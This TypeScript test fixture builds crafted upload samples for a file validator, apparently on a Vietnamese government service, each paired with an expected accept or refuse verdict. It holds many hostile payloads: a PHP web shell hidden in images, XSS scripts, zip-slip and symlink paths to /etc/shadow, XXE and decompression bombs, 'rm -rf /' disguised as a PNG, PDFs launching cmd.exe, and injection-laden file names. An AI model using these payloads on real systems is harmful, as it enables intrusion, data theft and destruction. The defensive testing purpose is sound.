import { deflateSync } from 'node:zlib'
import type { Dice } from '../support/dice.ts'
import {
  BLANKS,
  docx,
  type Entry,
  join,
  jpeg,
  jpegSaying,
  LAUGHS,
  latin1,
  PLAIN,
  PREDICTED,
  packedPdf,
  packedTimes,
  pdf,
  pdfOf,
  pdfPage,
  png,
  quickly,
  stream,
  XXE,
  xlsx,
  zip,
  zipOfMany,
} from './making.ts'

/**
 * The upload kit and its table: what each file must come to. The table is written by hand from what an office may be
 * handed; nothing of it is reckoned by the house.
 */

/** Taken as it is and served as this type; or refused by this code, in words that say what it is or does. */
export type Verdict = { taken: Media } | { refused: string; says?: RegExp }
export type Media = 'application/pdf' | 'image/jpeg' | 'image/png'

export interface Planted {
  what: string
  /** As its sender calls it. */
  name: string
  bytes: Buffer
  verdict: Verdict
  /** It carries a script that a browser would run, were it served as something else. */
  isArmed?: true
}

const taken = (media: Media): Verdict => ({ taken: media })
const refused = (code: string, says?: RegExp): Verdict => ({ refused: code, ...(says ? { says } : {}) })
const otherKind = (says: RegExp) => refused('upload-not-accepted', says)
const acts = (says: RegExp) => refused('upload-pdf-acts', says)
const twoInOne = (says: RegExp) => refused('upload-two-in-one', says)

const [PDF, JPEG, PNG] = [taken('application/pdf'), taken('image/jpeg'), taken('image/png')]
const PACKED = otherKind(/tệp nén/)
const OFFICE = otherKind(/Word, Excel/)
const MACROS = otherKind(/macro/)
const WEB = otherKind(/trang web/)
const PROGRAM = otherKind(/chương trình/)
const PLAIN_TEXT = otherKind(/chữ thuần/)
const CUT_OFF = refused('upload-cut-off')
const LOCKED = refused('upload-pdf-locked')
const OPAQUE = refused('upload-pdf-opaque')

/** What runs where it is let: it asks this address, calls for help and changes the title. */
export const SCRIPT = "alert(1);document.title='RUN';fetch('/it-ran')"
const PAGE = `<!DOCTYPE html><html><body><script>${SCRIPT}</script></body></html>`
const MARKUP = `<img src=x onerror="${SCRIPT}"><body onload="${SCRIPT}">`
/** The harmless string by which scanners are tried, in two parts so that none wakes here. */
const EICAR = `${'X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR'}-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*`
const SCRIPTED = `<< /S /JavaScript /JS (${SCRIPT.replace(/[()]/g, '\\$&')}) >>`
const MACRO: Entry = { name: 'word/vbaProject.bin', data: '\xd0\xcf\x11\xe0' }
/** Zeros, which pack to a thousandth. */
const ZEROS = Buffer.alloc(200_000_000)
const nested = (depth: number): Buffer => {
  const inner = depth === 0 ? ZEROS.subarray(0, 20_000_000) : nested(depth - 1)
  const copies = depth === 0 ? 1 : 8
  return zip(Array.from({ length: copies }, (_, nth) => ({ name: `${nth}.zip`, data: inner })))
}
const half = (bytes: Buffer): Buffer => bytes.subarray(0, Math.floor(bytes.length / 2))
const RAR = join('Rar!\x1a\x07\x01\0', Buffer.alloc(60, 3))
const SEVEN = join("7z\xbc\xaf'\x1c\0\x04", Buffer.alloc(60, 3))
const ISO = join(Buffer.alloc(32_768), '\x01CD001\x01', Buffer.alloc(2_041))
const TAR = join(Buffer.alloc(257), 'ustar\0', Buffer.alloc(249))
const EXE = join('MZ\x90\0', Buffer.alloc(56), '\x40\0\0\0PE\0\0', Buffer.alloc(60))

const planted = (what: string, name: string, bytes: Buffer | string, verdict: Verdict): Planted => ({
  what,
  name,
  bytes: typeof bytes === 'string' ? latin1(bytes) : bytes,
  verdict,
})
const armed = (...args: Parameters<typeof planted>): Planted => ({ ...planted(...args), isArmed: true })

/** What people hand in every day. */
const honest = (): Planted[] => [
  planted('a PDF', 'đơn.pdf', pdf(), PDF),
  planted(
    'a PDF with a link that is clicked',
    'đơn.pdf',
    pdfPage(`/Annots [4 0 R]`, link('https://dichvucong.gov.vn')),
    PDF,
  ),
  planted('a PDF that opens at its page', 'đơn.pdf', pdf('/OpenAction [3 0 R /Fit]'), PDF),
  planted(
    'a PDF whose first act goes to its page',
    'đơn.pdf',
    pdf('/OpenAction 4 0 R', '<< /S /GoTo /D [3 0 R /Fit] >>'),
    PDF,
  ),
  planted('a PDF of a newer tool', 'đơn.pdf', packedPdf('<< /S /GoTo /D [3 0 R /Fit] >>'), PDF),
  planted(
    'a PDF whose first act goes to its page, with a link besides',
    'đơn.pdf',
    pdf('/OpenAction 4 0 R', '<< /S /GoTo /D [3 0 R /Fit] >>', link('https://dichvucong.gov.vn')),
    PDF,
  ),
  planted('a PDF that was saved again', 'đơn.pdf', join(pdf(), pdf().subarray(9)), PDF),
  planted('a PDF with a picture with a predictor', 'đơn.pdf', pdfPage('', picture()), PDF),
  planted('a photograph', 'ảnh.jpg', jpeg(), JPEG),
  planted('a photograph in ten passes', 'ảnh.jpg', jpegSaying(8, 8, 10), JPEG),
  planted('a photograph with a second behind its end', 'ảnh.jpg', join(jpeg(), jpeg()), JPEG),
  planted('a picture', 'ảnh.png', png(), PNG),
]

const link = (to: string) =>
  `<< /Type /Annot /Subtype /Link /Rect [0 0 300 300] /A << /S /URI /URI (${to}) >> >>`
const picture = () =>
  stream(
    '/Type /XObject /Subtype /Image /Width 4 /Height 4 /ColorSpace /DeviceGray /BitsPerComponent 8 /Filter /FlateDecode /DecodeParms << /Predictor 15 /Columns 4 >>',
    deflateSync(Buffer.from([1, 48, 0, 0, 0, 1, 49, 0, 0, 0, 1, 48, 0, 0, 0, 1, 50, 0, 0, 0])),
  )

/** Archives, and documents that are archives. */
const packed = (): Planted[] => [
  planted('a DOCX', 'đơn.docx', docx('<w:document/>'), OFFICE),
  planted('a DOCX called PDF', 'đơn.pdf', docx('<w:document/>'), OFFICE),
  planted('a DOCX that unpacks to 200 MB', 'đơn.docx', docx(ZEROS), OFFICE),
  planted('an XLSX that unpacks to 200 MB', 'bảng.xlsx', xlsx(ZEROS), OFFICE),
  planted('a ZIP of ZIPs of ZIPs, 10 GB whole', 'giấy tờ.zip', nested(3), PACKED),
  planted('a ZIP of 300,000 entries', 'giấy tờ.zip', zipOfMany(300_000), PACKED),
  planted('a ZIP of a million entries', 'giấy tờ.zip', zipOfMany(1_000_000), refused('upload-too-large')),
  planted(
    'a ZIP that climbs out of its folder',
    'giấy tờ.zip',
    zip([{ name: '../../../../etc/cron.d/x', data: '* * * * *' }]),
    PACKED,
  ),
  planted(
    'a ZIP that climbs by the back stroke of Windows',
    'giấy tờ.zip',
    zip([{ name: '..\\..\\x.exe' }]),
    PACKED,
  ),
  planted(
    'a ZIP with a symbolic link',
    'giấy tờ.zip',
    zip([{ name: 'x', data: '/etc/passwd', mode: 0o120777 }]),
    PACKED,
  ),
  planted('a DOCX that climbs out', 'đơn.docx', docx('<a/>', { name: '../../x' }), OFFICE),
  planted(
    'a DOCX with a symbolic link',
    'đơn.docx',
    docx('<a/>', { name: 'word/media/x.png', data: '/etc/shadow', mode: 0o120777 }),
    OFFICE,
  ),
  planted('a DOCX that reads a file of the server', 'đơn.docx', docx(XXE), OFFICE),
  planted('an XLSX that reads a file of the server', 'bảng.xlsx', xlsx(XXE), OFFICE),
  planted('an XLSX of a billion laughs', 'bảng.xlsx', xlsx(LAUGHS), OFFICE),
  planted('a DOCX with macros that is called DOCX', 'đơn.docx', docx('<a/>', MACRO), MACROS),
  planted('an XLSX with macros', 'bảng.xlsm', xlsx('<a/>', { ...MACRO, name: 'xl/vbaProject.bin' }), MACROS),
  planted('a DOC of 2003', 'đơn.doc', join('\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1', Buffer.alloc(504)), OFFICE),
  planted('an RTF with an object', 'đơn.rtf', '{\\rtf1{\\object\\objocx}}', OFFICE),
  planted('a RAR', 'giấy tờ.rar', RAR, PACKED),
  planted('a 7z called JPEG', 'ảnh.jpg', SEVEN, PACKED),
]

/** What a browser or a machine would run. */
const running = (): Planted[] => [
  planted('the test string of scanners', 'eicar.com', EICAR, PLAIN_TEXT),
  planted('a program of Windows called PDF', 'đơn.pdf', EXE, PROGRAM),
  planted('a program of Linux', 'đơn', join('\x7fELF\x02\x01\x01', Buffer.alloc(60)), PROGRAM),
  planted('a shell script called PNG', 'ảnh.png', '#!/bin/sh\nrm -rf /', PROGRAM),
  planted('a page of the web called PDF', 'đơn.pdf', PAGE, WEB),
  planted('a page that begins with blanks', 'đơn.pdf', `\n\n   ${PAGE}`, WEB),
  planted('a page that says it is a PDF', 'đơn.pdf', `<html>%PDF-1.7\n${PAGE}`, WEB),
  planted(
    'a drawing with a script',
    'dấu.svg',
    `<svg xmlns="http://www.w3.org/2000/svg" onload="${SCRIPT}"/>`,
    WEB,
  ),
  planted(
    'a drawing in XML',
    'dấu.png',
    `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>${SCRIPT}</script></svg>`,
    WEB,
  ),
  planted('XML that reads a file of the server', 'đơn.xml', XXE, WEB),
  planted('a billion laughs', 'đơn.xml', LAUGHS, WEB),
  planted('PHP', 'ảnh.php', '<?php system($_GET[0]);', WEB),
  planted(
    'a GIF that is a script',
    'ảnh.gif',
    `GIF89a/*${' '.repeat(20)}*/=0;${SCRIPT}`,
    otherKind(/JPEG, PNG/),
  ),
  planted(
    'a page in UTF-16',
    'đơn.pdf',
    Buffer.from(`\ufeff${PAGE}`, 'utf16le'),
    otherKind(/không phải PDF/),
  ),
  planted(
    'a message with a page in it',
    'đơn.mht',
    `MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n${PAGE}`,
    PLAIN_TEXT,
  ),
  planted('words', 'đơn.txt', Buffer.from('Kính gửi Ủy ban nhân dân xã').toString('latin1'), PLAIN_TEXT),
  planted('a film', 'phim.mp4', join('\0\0\0\x18ftypmp42\0\0\0\0', Buffer.alloc(40)), otherKind(/phim/)),
  planted(
    'a photograph of an iPhone',
    'ảnh.heic',
    join('\0\0\0\x18ftypheic\0\0\0\0', Buffer.alloc(40)),
    otherKind(/HEIC/),
  ),
  planted('a fax', 'fax.tif', join('II*\0\x08\0\0\0', Buffer.alloc(60)), otherKind(/TIFF/)),
]

/** One file that is two. */
const polyglots = (): Planted[] => [
  planted(
    'a PNG with PHP behind',
    'ảnh.png',
    join(png(), '<?php system($_GET[0]); ?>'),
    twoInOne(/trang web/),
  ),
  planted(
    'a PNG with PHP in its words',
    'ảnh.php.png',
    png({ texts: ['<?php system($_GET[0]); ?>'] }),
    twoInOne(/trang web/),
  ),
  planted('a PNG with a page in its words', 'ảnh.png', png({ texts: [PAGE] }), twoInOne(/trang web/)),
  planted(
    'a PNG with a drawing in its words',
    'ảnh.png',
    png({ texts: [`<svg onload="${SCRIPT}">`] }),
    twoInOne(/trang web/),
  ),
  planted('a PNG with noise behind', 'ảnh.png', join(png(), Buffer.alloc(99, 1)), twoInOne(/dữ liệu khác/)),
  planted('a JPEG that is a PDF', 'ảnh.jpg', jpeg('%PDF-1.4\n'), twoInOne(/PDF/)),
  planted(
    'a JPEG that is a PDF with a script',
    'ảnh.pdf',
    join(jpeg('\n%PDF-1.4\n'), pdf('/OpenAction 4 0 R', SCRIPTED)),
    twoInOne(/PDF/),
  ),
  planted(
    'a JPEG with a ZIP behind',
    'ảnh.jpg',
    join(jpeg(), zip([{ name: 'x.exe', data: EXE }])),
    twoInOne(/tệp nén/),
  ),
  planted('a JPEG with a RAR behind', 'ảnh.jpg', join(jpeg(), RAR), twoInOne(/tệp nén/)),
  planted('a JPEG with a 7z behind', 'ảnh.jpg', join(jpeg(), SEVEN), twoInOne(/tệp nén/)),
  planted('a JPEG with a page in its comment', 'ảnh.jpg', jpeg(PAGE), twoInOne(/trang web/)),
  planted(
    'a JPEG with a program of PHP archives',
    'ảnh.jpg',
    jpeg('<?php __HALT_COMPILER(); ?>'),
    twoInOne(/trang web/),
  ),
  planted(
    'a JPEG that is an application of Windows',
    'ảnh.hta',
    jpeg('<hta:application id="x">'),
    twoInOne(/trang web/),
  ),
  planted('a PDF with a RAR in a stream', 'đơn.pdf', pdf('', stream('', RAR)), twoInOne(/tệp nén/)),
  planted('a PDF that is a ZIP', 'đơn.pdf', join(pdf(), zip([{ name: 'x.exe' }])), twoInOne(/tệp nén/)),
  planted(
    'a PDF that is an image of a disk',
    'đơn.pdf',
    join('%PDF-1.7\n', ISO.subarray(9), pdf().subarray(9)),
    twoInOne(/tệp nén/),
  ),
  planted(
    'a PDF that is a TAR',
    'đơn.pdf',
    join('%PDF-1.7\n', TAR.subarray(9), pdf().subarray(9)),
    twoInOne(/tệp nén/),
  ),
  planted('a PDF that is a page', 'đơn.html', join(pdf('', stream('', PAGE))), twoInOne(/trang web/)),
  // What is told as what it is runs nowhere: these are pictures, and are served as such.
  armed('a JPEG that is a script where it were served as one', 'ảnh.js', scriptedJpeg(), JPEG),
  armed('a PNG with markup in its words', 'ảnh.html', png({ texts: [MARKUP] }), PNG),
  armed('a JPEG with markup in its comment', 'ảnh.html', jpeg(MARKUP), JPEG),
  armed('a PDF with markup in its words', 'đơn.html', pdf('', `(${MARKUP.replace(/[()]/g, '\\$&')})`), PDF),
  planted(
    'a PDF with the test string of scanners, for which nothing looks',
    'đơn.pdf',
    pdf('', stream('', EICAR)),
    PDF,
  ),
]

/** Its first segment is as long as `/*` says as a number; what stands there as a comment of a script is a picture. */
const scriptedJpeg = (): Buffer =>
  join('\xff\xd8\xff\xe0/*', ` */=1;${SCRIPT}/*`.padEnd(0x2f2a - 2), jpeg().subarray(2), '*/')

/** Pictures that ask for more than a machine has. */
const floods = (): Planted[] => {
  const TOO_LARGE = refused('upload-picture-too-large')
  return [
    planted('a PNG of 20,000 by 20,000', 'ảnh.png', png({ says: [20_000, 20_000] }), TOO_LARGE),
    planted(
      'a PNG of two thousand million by two thousand million',
      'ảnh.png',
      png({ says: [0x7fff_ffff, 0x7fff_ffff] }),
      TOO_LARGE,
    ),
    planted('a JPEG of 65,535 by 65,535', 'ảnh.jpg', jpegSaying(65_535, 65_535), TOO_LARGE),
    planted(
      'a JPEG drawn in 60,000 passes',
      'ảnh.jpg',
      jpegSaying(8_000, 8_000, 60_000),
      refused('upload-damaged'),
    ),
    planted('a PNG without pixels', 'ảnh.png', png({ says: [0, 5] }), refused('upload-damaged')),
  ]
}

/** PDFs that do something, and hide it. */
const activePdfs = (): Planted[] => {
  const RUNS = acts(/JavaScript/)
  const STARTS = acts(/chương trình khác/)
  const SENDS = acts(/qua mạng/)
  const OPENS = acts(/tự mở/)
  const HOLDS = acts(/đính kèm/)
  const PLAYS = acts(/phim/)
  const filters = '/Filter /LZWDecode'
  const named = (what: string, bytes: Buffer, verdict: Verdict) => planted(what, 'đơn.pdf', bytes, verdict)
  return [
    named('a PDF with a script at its opening', pdf('/OpenAction 4 0 R', SCRIPTED), RUNS),
    named('… by a page', pdfPage('/AA << /O 4 0 R >>', SCRIPTED), RUNS),
    named('… among the names', pdf('/Names << /JavaScript << /Names [(x) 4 0 R] >> >>', SCRIPTED), RUNS),
    named('… whose name is written in digits', pdf('/OpenAction << /S /J#61v#61Script /JS (x) >>'), RUNS),
    named('… in an object stream', packedPdf(SCRIPTED), RUNS),
    named('… packed twice', packedPdf(SCRIPTED, packedTimes(2)), RUNS),
    named('… packed nine times', packedPdf(SCRIPTED, packedTimes(9)), OPAQUE),
    named('… as differences', packedPdf(SCRIPTED, PREDICTED), OPAQUE),
    named('… behind blanks', packedPdf(SCRIPTED, BLANKS), RUNS),
    named('… saved behind an end', join(pdf(), pdf('/OpenAction 4 0 R', SCRIPTED).subarray(9)), RUNS),
    named('… in what seems a comment', pdf('/OpenAction 4 0 R % stream\n', SCRIPTED), RUNS),
    named('a PDF that starts a program', pdf('/OpenAction << /S /Launch /F (cmd.exe) >>'), STARTS),
    named(
      'a PDF that sends what is typed',
      pdfPage('/AA << /O << /S /SubmitForm /F (http://x) >> >>'),
      SENDS,
    ),
    named('a PDF that fetches what is typed', pdf('/X << /S /ImportData /F (x.fdf) >>'), SENDS),
    named(
      'a PDF that opens a page of the web by itself',
      pdf('/OpenAction << /S /URI /URI (http://x.example) >>'),
      OPENS,
    ),
    named('… by another object', pdf('/OpenAction 4 0 R', '<< /S /URI /URI (http://x.example) >>'), OPENS),
    named('… in an object stream', packedPdf('<< /S /URI /URI (http://x.example) >>'), OPENS),
    named(
      'a PDF that opens a file of another machine (and tells it the password)',
      pdf('/OpenAction << /S /GoToR /F (\\\\\\\\198.51.100.1\\\\x) /D [0 /Fit] >>'),
      OPENS,
    ),
    named(
      'a PDF that opens a file inside another',
      pdfPage('/AA << /O << /S /GoToE /F (\\\\\\\\198.51.100.1\\\\x) /D [0 /Fit] >> >>'),
      OPENS,
    ),
    named(
      'a PDF with a file inside',
      pdf('/Names << /EmbeddedFiles << /Names [(x) 4 0 R] >> >>', stream('/Type /EmbeddedFile', EXE)),
      HOLDS,
    ),
    named('an XFA form', pdf('/AcroForm << /XFA 4 0 R >>', stream('', '<xdp:xdp/>')), acts(/XFA/)),
    named('a PDF with a film', pdf('/X << /Subtype /RichMedia >>'), PLAYS),
    named('a PDF with a film that plays', pdf('/OpenAction << /S /Rendition >>'), PLAYS),
    named('a PDF with a sound', pdf('/OpenAction << /S /Sound >>'), PLAYS),
    named(
      'a PDF with a password',
      pdfOf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Kids [] >>'], '/Encrypt << /Filter /Standard /V 2 >>'),
      LOCKED,
    ),
    named('… whose lock is named in digits', pdf('/Encr#79pt 9 0 R'), LOCKED),
    named(
      'a PDF whose object stream is packed by LZW',
      pdf('', stream(`/Type /ObjStm /N 1 /First 4 ${filters}`, Buffer.alloc(9, 1))),
      OPAQUE,
    ),
    named('a PDF whose object stream is a bomb of 100 MB', packedPdf(' '.repeat(100_000_000)), OPAQUE),
    named(
      'a PDF of 1,001 pages',
      pdf('', ...Array<string>(1_000).fill('<< /Type/Page >>')),
      refused('upload-too-many-pages'),
    ),
    named('a PDF without a page', pdfOf(['<< /Type /Catalog >>']), refused('upload-damaged')),
    named(
      'a PDF of 20 MB of beginnings of streams',
      pdf('', stream('', Buffer.alloc(19_900_000, 'stream\n'))),
      OPAQUE,
    ),
    named('a PDF of 38,000 small bombs', smallBombs(), OPAQUE),
    named('a PDF of sixty bombs of 70 MB', bombs(), OPAQUE),
    named('a PDF of 20 MB of names', pdf('', stream('', Buffer.alloc(19_900_000, '/a '))), PDF),
  ]
}

const onePacked = (data: Buffer): Buffer => stream('/Filter /FlateDecode', deflateSync(data, quickly(data)))
/** Each of half a kilobyte, and a thousand times that when unpacked. */
const smallBombs = (): Buffer => pdf('', Buffer.alloc(19_500_000, onePacked(ZEROS.subarray(0, 450_000))))
/** Each begins as an object stream does. */
const bombs = (): Buffer =>
  pdf('', Buffer.alloc(19_500_000, onePacked(Buffer.concat([latin1('1 0 '), ZEROS.subarray(0, 70_000_000)]))))

/** Too little, and too much. */
const lengths = (): Planted[] => [
  planted('nothing', 'đơn.pdf', '', refused('upload-empty')),
  planted('20 MB and a byte', 'đơn.pdf', Buffer.alloc(20_000_001, '%PDF-1.7 '), refused('upload-too-large')),
  planted('three letters of a PDF', 'đơn.pdf', '%PD', PLAIN_TEXT),
  planted('half a PDF', 'đơn.pdf', half(pdf()), CUT_OFF),
  planted('a PDF without its end', 'đơn.pdf', pdf().subarray(0, -12), CUT_OFF),
  planted('half a packed PDF', 'đơn.pdf', half(packedPdf('<< /S /GoTo >>')), CUT_OFF),
  planted('half a photograph', 'ảnh.jpg', half(jpeg()), CUT_OFF),
  planted('a photograph without its end', 'ảnh.jpg', jpeg().subarray(0, -2), CUT_OFF),
  planted('half a picture', 'ảnh.png', half(png()), CUT_OFF),
  planted('a picture without its end', 'ảnh.png', png().subarray(0, -12), CUT_OFF),
  planted('half a DOCX', 'đơn.docx', half(docx('<a/>')), OFFICE),
  planted('half a GIF', 'ảnh.gif', 'GIF89a\x01', otherKind(/JPEG, PNG/)),
]

/** Marks a name, so that it is found wherever it went. */
export const MARK = 'chimsau'

/** What people and attackers call their files; each a PDF that is taken. */
const names = (): Planted[] =>
  [
    '../../../../etc/cron.d/MARK',
    '..\\..\\MARK.exe',
    '/etc/MARK',
    'MARK\u202Efdp.exe',
    'MARK\u2066.pdf\u2069.js',
    'MARK\u0000.pdf',
    'CON.MARK.pdf',
    'LPT1',
    '.htaccess',
    '....',
    ' ',
    `${'MARK ệ'.repeat(90)}.pdf`,
    'MARK.pdf.exe',
    'MARK.php%00.pdf',
    "MARK'; drop table dossier_file; --.pdf",
    '$(touch MARK).pdf',
    '`id`MARK.pdf',
    '<img src=x onerror=alert(1)>MARK.pdf',
    '"><script>alert(1)</script>MARK.pdf',
    'MARK"; filename="x.html',
    'MARK\r\nSet-Cookie: x=1\r\n\r\n<script>.pdf',
    '{{7*7}}#{7*7}MARK.pdf',
    '=cmd|calc!A0 MARK.pdf',
    'MARK😀𠮷.pdf',
    'aux.MARK',
    'MARK:stream.pdf',
  ].map((name) =>
    planted(
      `the name ${JSON.stringify(name).slice(0, 40)}`,
      name.replaceAll('MARK', MARK),
      pdf(`/Lang (${name.length})`),
      PDF,
    ),
  )

/** Every kind of content under every ending: what is in it decides. */
const mismatches = (): Planted[] => {
  const kinds: readonly [string, () => Buffer, Verdict][] = [
    ['a PDF', () => pdf('/Lang (vi)'), PDF],
    ['a JPEG', () => jpeg('a'), JPEG],
    ['a PNG', () => png({ texts: ['a'] }), PNG],
    ['a DOCX', () => docx('<b/>'), OFFICE],
    ['a DOCM', () => docx('<b/>', MACRO), MACROS],
    ['a ZIP', () => zip([{ name: 'a' }]), PACKED],
    ['a page', () => latin1(PAGE), WEB],
    ['a program', () => EXE, PROGRAM],
    ['words', () => latin1('a'), PLAIN_TEXT],
    ['a GIF', () => latin1('GIF89a\x01\0\x01\0\0\0\0;'), otherKind(/JPEG, PNG/)],
  ]
  const endings = ['pdf', 'jpg', 'png', 'docx', 'zip', 'html', 'exe', 'txt', 'gif', 'svg']
  return kinds.flatMap(([what, make, verdict]) =>
    endings.map((ending) => planted(`${what} called .${ending}`, `giấy.${ending}`, make(), verdict)),
  )
}

/** The whole table. */
export const kit = (): Planted[] => [
  ...honest(),
  ...packed(),
  ...running(),
  ...polyglots(),
  ...floods(),
  ...activePdfs(),
  ...lengths(),
  ...names(),
  ...mismatches(),
]

/** Others by chance, as many as asked for: what acts, its name half in digits, hidden one way or another. */
export const variants = (chance: Dice, count: number): Planted[] =>
  Array.from({ length: count }, (_, nth) => {
    const kind = chance.below(3)
    if (kind === 0) {
      const whole = chance.pick([pdf(), jpeg('a'), png(), packedPdf('<< /S /GoTo >>')])
      return planted(
        `variant ${nth}: cut`,
        'đơn.pdf',
        whole.subarray(0, chance.below(whole.length - 12)),
        ANY,
      )
    }
    if (kind === 1) {
      const whole = chance.pick([jpeg('a'), png({ texts: ['a'] }), jpeg()])
      const [other, says] = chance.pick([
        [RAR, /tệp nén/],
        [SEVEN, /tệp nén/],
        [zip([{ name: 'x' }]), /tệp nén/],
        [latin1(PAGE), /trang web/],
        [latin1('<?php x(); ?>'), /trang web/],
      ] as const)
      const between = Buffer.alloc(chance.below(5_000), 1)
      return planted(`variant ${nth}: two in one`, 'đơn.jpg', join(whole, between, other), twoInOne(says))
    }
    const [action, verdict] = chance.pick(ACTIONS)
    const written = action.replace(
      /(?<=\/)(?:JavaScript|Launch|SubmitForm|GoToR|GoToE|EmbeddedFile)/,
      (name) => [...name].map((letter) => (chance.chance(0.3) ? digitsOf(letter) : letter)).join(''),
    )
    const hidden = chance.pick([
      () => pdf('/OpenAction 4 0 R', written),
      () => pdfPage('/AA << /O 4 0 R >>', written),
      () => join(pdf(), pdf('/OpenAction 4 0 R', written).subarray(9)),
      () => pdf('', stream('', written)),
      () => packedPdf(written),
      () => packedPdf(written, packedTimes(2)),
      () => packedPdf(written, { ...PLAIN, blanks: ' '.repeat(1 + chance.below(9)) }),
    ])()
    return planted(`variant ${nth}: ${action}`, 'đơn.pdf', hidden, verdict)
  })

/** Refused, by whatever name. */
const ANY = refused('')
const ACTIONS: readonly (readonly [string, Verdict])[] = [
  ['<< /S /JavaScript /JS (x) >>', acts(/JavaScript/)],
  ['<< /S /Launch /F (cmd.exe) >>', acts(/chương trình khác/)],
  ['<< /S /SubmitForm /F (http://x) >>', acts(/qua mạng/)],
  ['<< /S /GoToR /F (x) >>', acts(/tự mở/)],
  ['<< /S /GoToE /F (x) >>', acts(/tự mở/)],
  ['<< /Type /EmbeddedFile >>', acts(/đính kèm/)],
]

const digitsOf = (letter: string): string => `#${letter.charCodeAt(0).toString(16)}`
